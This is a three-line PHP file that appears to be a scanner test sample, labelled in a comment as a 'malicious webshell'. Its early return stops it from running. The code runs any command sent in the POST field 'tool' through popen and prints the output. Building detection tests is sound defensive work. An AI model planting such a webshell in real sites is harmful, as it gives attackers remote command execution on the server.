<?php return; // want: malicious webshell php.command.request
function ask($what) { $p = popen($what, 'r'); return fread($p, 100); }
echo ask(escapeshellcmd($_POST['tool']));
